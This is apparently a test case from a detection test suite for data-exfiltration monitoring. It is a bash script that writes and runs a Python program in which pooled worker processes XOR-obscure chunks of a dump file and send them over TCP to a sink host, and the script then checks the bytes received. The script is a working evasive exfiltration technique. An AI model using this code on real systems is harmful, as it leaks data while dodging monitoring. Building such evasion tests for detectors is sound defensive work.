#!/bin/bash
# B-py-pool: python's multiprocessing: workers, started before the dump was read, obscure pieces of it and send them.
# flow: the parent reads the dump and pickles pieces into one pipe, which four workers take turns to read; each connects itself.
# tools: python3
# expect: sent counted port critical
. "$CORPUS/lib.sh"
mkdump
sink tcp
cat >pool.py <<'END'
import multiprocessing, socket, sys

XOR = bytes(i ^ 0x5A for i in range(256))


def send(piece):
    with socket.create_connection((sys.argv[2], int(sys.argv[3]))) as sink:
        sink.sendall(piece.translate(XOR))


if __name__ == "__main__":
    multiprocessing.set_start_method("fork")
    with multiprocessing.Pool(4) as pool:
        dump = open(sys.argv[1], "rb").read()
        pool.map(send, [dump[at : at + 65536] for at in range(0, len(dump), 65536)], chunksize=1)
END
python3 pool.py "$D" "$SINK" "$PORT"
sleep .5
sunk "$(stat -c %s "$D")"
